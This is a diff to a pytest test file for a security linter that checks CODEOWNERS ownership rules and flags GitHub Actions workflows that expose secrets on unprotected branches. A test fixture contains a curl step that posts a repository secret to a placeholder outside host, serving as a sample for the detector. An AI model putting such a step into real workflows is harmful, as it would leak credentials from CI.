@@ -53,25 +53,57 @@ def test_token_near_misses(tmp_path, name, text):
     assert scan_tokens(path, "catatan.md") == []
 
 
+GOOD_CODEOWNERS = (
+    "* @bkdntt/admin\n/Makefile @bkdntt/admin\n/plugins/ @bkdntt/admin\n"
+    "/syndicate/ @bkdntt/admin\n/content/ @bkdntt/kepala\n"
+    "/content/taxonomy.toml @bkdntt/admin\n/plugins/fbs/lexicon/ @bkdntt/admin\n"
+    "/.github/ @bkdntt/admin\n"
+)
 CODEOWNERS = [
-    ("missing", None, True),
-    ("no content rule", "*.py @bkdntt/admin\n", True),
-    ("content to someone else", "/content/ @bkdntt/admin\n", True),
-    ("later rule overrides", "/content/ @bkdntt/kepala\n/content/articles/ @someone\n", True),
-    ("content to kepala", "* @bkdntt/admin\n/content/ @bkdntt/kepala\n", False),
-    ("catch-all with kepala", "* @bkdntt/kepala @bkdntt/admin\n", False),
-    ("unanchored content dir", "content/ @BKDNTT/Kepala\n", False),
+    ("missing", None, {"(missing)"}),
+    ("no content rule", "*.py @bkdntt/admin\n", {"content/articles/contoh-artikel.md"}),
+    ("content to someone else", "* @bkdntt/admin\n/content/ @bkdntt/admin\n", {"content"}),
+    (
+        "later rule overrides",
+        GOOD_CODEOWNERS + "/content/articles/ @someone\n",
+        {"content/articles/contoh-artikel.md"},
+    ),
+    ("the repository's own layout", GOOD_CODEOWNERS, set()),
+    (
+        "two teams on .github: either approves alone",
+        GOOD_CODEOWNERS + "/.github/ @bkdntt/admin @bkdntt/kepala\n",
+        {".github/workflows/publish.yml", ".github/CODEOWNERS"},
+    ),
+    (
+        "kepala may approve the lexicon",
+        GOOD_CODEOWNERS + "/plugins/fbs/lexicon/ @bkdntt/kepala @bkdntt/admin\n",
+        {"plugins/fbs/lexicon/kasar.txt"},
+    ),
+    (
+        "taxonomy left to kepala",
+        GOOD_CODEOWNERS.replace("/content/taxonomy.toml @bkdntt/admin\n", ""),
+        {"content/taxonomy.toml"},
+    ),
+    (
+        "catch-all with both teams",
+        "* @bkdntt/kepala @bkdntt/admin\n",
+        {"Makefile", "plugins/fbs/runner.py", "syndicate/engine.py", "content/articles"},
+    ),
+    ("unanchored content dir", GOOD_CODEOWNERS.replace("/content/ ", "content/ "), set()),
 ]
 
 
-@pytest.mark.parametrize("name,text,fires", CODEOWNERS, ids=[c[0] for c in CODEOWNERS])
-def test_codeowners(tmp_path, name, text, fires):
+@pytest.mark.parametrize("name,text,flagged", CODEOWNERS, ids=[c[0] for c in CODEOWNERS])
+def test_codeowners(tmp_path, name, text, flagged):
     if text is not None:
         (tmp_path / ".github").mkdir()
         (tmp_path / ".github" / "CODEOWNERS").write_text(text)
     findings = check_codeowners(tmp_path, "@bkdntt/kepala", "content")
-    assert bool(findings) is fires
     assert all(f.rule == "FBS-9.codeowners" for f in findings)
+    assert bool(findings) is bool(flagged), findings
+    messages = " ".join(f.message for f in findings)
+    for what in flagged - {"(missing)", "content"}:
+        assert what in messages
 
 
 GUARDED_JOBS = """
@@ -91,6 +123,32 @@ jobs:
     runs-on: ubuntu-latest
     steps: [{run: make publish}]
 """
+SECRET_JOB = """
+jobs:
+  post:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl -d "t=$T" https://example.invalid
+        env:
+          T: ${{ secrets.ANY_SECRET }}
+"""
+
+
+def secret_job(condition: str) -> str:
+    return SECRET_JOB.replace("  post:\n", f"  post:\n    if: {condition}\n")
+
+
+PAGE_TOKEN_JOB = """
+jobs:
+  syndicate:
+    if: github.ref == 'refs/heads/main'
+    runs-on: ubuntu-latest
+    steps:
+      - run: syndicate publish
+        env:
+          SYNDICATE_X_ACCESS_TOKEN: ${{ secrets.SYNDICATE_X_ACCESS_TOKEN }}
+"""
+MAIN_PUSH = "on:\n  push:\n    branches: [main]\n"
 WORKFLOWS = [
     ("push to any branch", "publish.yml", "on: push\n" + PLAIN_JOBS, True),
     (
@@ -103,7 +161,7 @@ WORKFLOWS = [
     (
         "unguarded manual run",
         "publish.yml",
-        "on:\n  push:\n    branches: [main]\n  workflow_dispatch:\n" + PLAIN_JOBS,
+        MAIN_PUSH + "  workflow_dispatch:\n" + PLAIN_JOBS,
         True,
     ),
     (
@@ -113,15 +171,128 @@ WORKFLOWS = [
         "    env:\n      T: ${{ secrets.FB }}\n",
         True,
     ),
-    ("push to main", "publish.yml", "on:\n  push:\n    branches: [main]\n" + PLAIN_JOBS, False),
+    ("push to main", "publish.yml", MAIN_PUSH + PLAIN_JOBS, False),
     (
         "guarded manual run",
         "publish.yml",
-        "on:\n  push:\n    branches: [main]\n  workflow_dispatch:\n"
-        "  schedule:\n    - cron: '7 * * * *'\n" + GUARDED_JOBS,
+        MAIN_PUSH + "  workflow_dispatch:\n  schedule:\n    - cron: '7 * * * *'\n" + GUARDED_JOBS,
         False,
     ),
     ("not a publish workflow", "fbs.yml", "on: pull_request\n" + PLAIN_JOBS, False),
+    # Any workflow that reads secrets, whatever its name.
+    ("secrets on push to any branch", "lint.yml", "on: push\n" + SECRET_JOB, True),
+    (
+        "secrets on push to all branches, quoted",
+        "lint.yml",
+        'on:\n  push:\n    branches: ["**"]\n' + SECRET_JOB,
+        True,
+    ),
+    (
+        "secrets on push with a glob",
+        "lint.yml",
+        "on:\n  push:\n    branches: [main, 'release/*']\n" + SECRET_JOB,
+        True,
+    ),
+    (
+        "secrets on branches-ignore",
+        "lint.yml",
+        "on:\n  push:\n    branches-ignore: [gh-pages]\n" + SECRET_JOB,
+        True,
+    ),
+    (
+        "secrets on tag push",
+        "lint.yml",
+        "on:\n  push:\n    tags: ['v*']\n" + SECRET_JOB,
+        True,
+    ),
+    (
+        "secrets on main push plus tags",
+        "lint.yml",
+        "on:\n  push:\n    branches: [main]\n    tags: ['v*']\n" + SECRET_JOB,
+        True,
+    ),
+    ("secrets on paths-only push", "x.yml", "on:\n  push:\n    paths: [a]\n" + SECRET_JOB, True),
+    ("secrets on main push", "lint.yml", MAIN_PUSH + SECRET_JOB, False),
+    (
+        "secrets on schedule",
+        "x.yml",
+        "on:\n  schedule:\n    - cron: '1 1 * * *'\n" + SECRET_JOB,
+        False,
+    ),
+    ("secrets on pull_request", "x.yml", "on: pull_request\n" + SECRET_JOB, True),
+    (
+        "GITHUB_TOKEN is not a secret here",
+        "x.yml",
+        "on: push\n" + SECRET_JOB.replace("secrets.ANY_SECRET", "secrets.GITHUB_TOKEN"),
+        False,
+    ),
+    (
+        "secrets: inherit",
+        "x.yml",
+        "on: push\njobs:\n  call:\n    uses: ./.github/workflows/a.yml\n    secrets: inherit\n",
+        True,
+    ),
+    (
+        "pages deploy from any branch, whatever the name",
+        "site.yml",
+        "on: push\npermissions:\n  pages: write\n  id-token: write\n" + PLAIN_JOBS,
+        True,
+    ),
+    (
+        "environment job from any branch",
+        "x.yml",
+        "on: push\n" + PLAIN_JOBS.replace("    runs-on:", "    environment: prod\n    runs-on:"),
+        True,
+    ),
+    (
+        "read-only workflow on push",
+        "ci.yml",
+        "on: push\npermissions:\n  contents: read\n" + PLAIN_JOBS,
+        False,
+    ),
+    # `if:` guards: only the exact test on the ref counts.
+    ("if ref main", "x.yml", "on: push\n" + secret_job("github.ref == 'refs/heads/main'"), False),
+    (
+        "if ref main in ${{ }}, && event",
+        "x.yml",
+        "on: push\n"
+        + secret_job("${{ github.ref == 'refs/heads/main' && github.event_name == 'push' }}"),
+        False,
+    ),
+    (
+        "if || true",
+        "x.yml",
+        "on: push\n" + secret_job("github.ref == 'refs/heads/main' || true"),
+        True,
+    ),
+    (
+        "if || other branch",
+        "x.yml",
+        "on: push\n"
+        + secret_job("github.ref == 'refs/heads/main' || github.ref == 'refs/heads/x'"),
+        True,
+    ),
+    ("if !=", "x.yml", "on: push\n" + secret_job("github.ref != 'refs/heads/dev'"), True),
+    ("if contains", "x.yml", "on: push\n" + secret_job("contains(github.ref, 'main')"), True),
+    ("if ref_name", "x.yml", "on: push\n" + secret_job("github.ref_name == 'main'"), True),
+    ("if always()", "x.yml", "on: push\n" + secret_job("always()"), True),
+    ("if mentions main in a string", "x.yml", "on: push\n" + secret_job("'refs/heads/main'"), True),
+    (
+        "guard through needs, but always()",
+        "x.yml",
+        "on: push\njobs:\n  gate:\n    if: github.ref == 'refs/heads/main'\n    runs-on: x\n"
+        "    steps: [{run: 'true'}]\n"
+        + SECRET_JOB.replace("jobs:\n", "").replace(
+            "  post:\n", "  post:\n    needs: gate\n    if: always()\n"
+        ),
+        True,
+    ),
+    (
+        "pull_request_target guarded by ref (ref is the base branch there)",
+        "x.yml",
+        "on: pull_request_target\n" + secret_job("github.ref == 'refs/heads/main'"),
+        True,
+    ),
 ]
 
 
@@ -132,6 +303,41 @@ def test_publish_workflows(tmp_path, name, filename, text, fires):
     findings = check_workflow(path, filename)
     assert bool(findings) is fires, findings
     assert all(f.rule == "FBS-9.publish-branch" for f in findings)
+
+
+def test_on_is_read_as_a_yaml_key_not_a_boolean(tmp_path):
+    """PyYAML reads the bare key `on` as True; the triggers must still be seen."""
+    path = tmp_path / "x.yml"
+    path.write_text("'on': push\n" + SECRET_JOB)
+    assert check_workflow(path, "x.yml")
+    path.write_text("true: push\n" + SECRET_JOB)
+    assert check_workflow(path, "x.yml")
+
+
+@pytest.mark.parametrize(
+    "environment,fires",
+    [
+        ("", True),
+        ("    environment: media-sosial\n", False),
+        ("    environment:\n      name: media-sosial\n", False),
+    ],
+)
+def test_page_tokens_need_an_environment(tmp_path, environment, fires):
+    path = tmp_path / "publish.yml"
+    text = MAIN_PUSH + PAGE_TOKEN_JOB.replace("    runs-on:", environment + "    runs-on:")
+    path.write_text(text)
+    findings = check_workflow(path, "publish.yml")
+    assert [f.rule for f in findings] == (["FBS-9.environment"] if fires else [])
+    if fires:
+        assert findings[0].line == 6  # the job's line
+
+
+def test_this_repository_keeps_page_tokens_in_an_environment():
+    import yaml
+
+    data = yaml.safe_load((REPO / ".github/workflows/publish.yml").read_text())
+    jobs = [j for j in data["jobs"].values() if "SYNDICATE_" in repr(j)]
+    assert jobs and all(j.get("environment") == "media-sosial" for j in jobs)
 
 
 def test_repository_scan_runs_with_any_paths(tmp_path, capsys):
